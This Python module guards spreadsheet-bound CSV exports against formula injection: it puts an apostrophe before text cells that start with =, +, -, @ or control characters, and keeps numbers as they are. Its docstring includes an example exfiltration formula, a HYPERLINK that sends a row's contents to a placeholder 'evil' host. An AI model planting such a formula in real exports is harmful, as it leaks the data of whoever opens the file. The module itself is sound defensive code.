"""Cells of the CSV files planners and staff open in a spreadsheet.

A text cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is run
as a formula by Excel, WPS and LibreOffice: an area named ``=HYPERLINK("http://evil/?"&A2)``
in an imported boundary file would become a link that sends the row away. Such a cell gets a
leading apostrophe (shown by no spreadsheet); numbers, negative ones included, stay numbers.
The listing export has its own copy of the rule (``transfer.columns``).
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def guarded(value: object) -> object:
    """``value`` as a spreadsheet cell that is never a formula.

    >>> guarded('=HYPERLINK("http://x")'), guarded("-113.5"), guarded("@SUM(A1)"), guarded(-2)
    ('\\'=HYPERLINK("http://x")', '-113.5', "'@SUM(A1)", -2)
    """
    if isinstance(value, str) and value.startswith(FORMULA_START) and not NUMBER.fullmatch(value):
        return "'" + value
    return value


def guarded_row(row: Iterable[object]) -> list[object]:
    return [guarded(v) for v in row]
